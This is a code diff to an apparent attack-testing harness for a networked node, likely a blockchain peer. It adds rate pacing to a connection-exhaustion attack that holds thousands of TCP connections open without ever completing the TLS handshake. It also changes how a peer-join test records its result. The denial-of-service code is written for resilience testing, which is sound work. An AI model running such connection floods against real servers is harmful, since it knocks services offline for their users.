@@ -125,17 +125,22 @@ final class WireAttacks {
 
     /**
      * Only against a target with TLS: plain TCP connections that never start the TLS handshake, held open and
-     * replaced when closed, up to the option {@code tls-silent} (default 10,000) at a time, opened at up to 500
-     * a second.
+     * replaced when closed, up to the option {@code tls-silent} (default 10,000) at a time, opened at the
+     * option {@code tls-silent-rate} a second (default 500; paced, so a target that closes them at once does
+     * not make the attacker open faster).
      */
     static void tlsSilent(AttackContext ctx) throws IOException {
         int target = ctx.option("tls-silent", 10_000);
+        long rate = ctx.option("tls-silent-rate", 500);
         Map<SocketChannel, Long> openedAt = new HashMap<>();
         long[] heldMax = { 0 };
+        long start = System.nanoTime();
+        long opened = 0;
         try (Selector selector = ctx.register(Selector.open())) {
             ByteBuffer sink = ByteBuffer.allocate(4096);
             while (ctx.running()) {
-                for (int i = 0; i < 50 && openedAt.size() < target; i++) {
+                long due = (System.nanoTime() - start) / 1_000_000 * rate / 1_000;
+                for (; opened < due && openedAt.size() < target; opened++) {
                     SocketChannel ch = SocketChannel.open();
                     ch.configureBlocking(false);
                     ch.bind(new InetSocketAddress(ctx.attackerIp, 0));
@@ -143,7 +148,10 @@ final class WireAttacks {
                     ch.register(selector, SelectionKey.OP_CONNECT);
                     openedAt.put(ch, System.nanoTime());
                 }
-                selector.select(100);
+                if (openedAt.size() >= target) {
+                    opened = Math.max(opened, due); // no catching up once connections are freed
+                }
+                selector.select(10);
                 for (SelectionKey key : selector.selectedKeys()) {
                     silentEvent(ctx, key, openedAt, sink);
                 }
@@ -232,10 +240,8 @@ final class WireAttacks {
         int joiner = ctx.nodes.extraHttp();
         long goal = ctx.http.chain(ctx.nodes.targetHttp()).map(c -> c.get("height").asLong()).orElse(-1L);
         ctx.finding("target height when the joiner starts", goal);
-        if (!ctx.http.addPeer(joiner, Nodes.address(ctx.nodes.targetP2p()))) {
-            ctx.finding("joiner", "refused POST /api/peers");
-            return;
-        }
+        // watched whatever the answer: a slow answer may still have added the peer
+        ctx.finding("joiner's POST /api/peers", ctx.http.addPeerAnswer(joiner, Nodes.address(ctx.nodes.targetP2p())));
         long reached = -1;
         while (ctx.running() && reached < 0) {
             long h = ctx.http.chain(joiner).map(c -> c.get("height").asLong()).orElse(-1L);
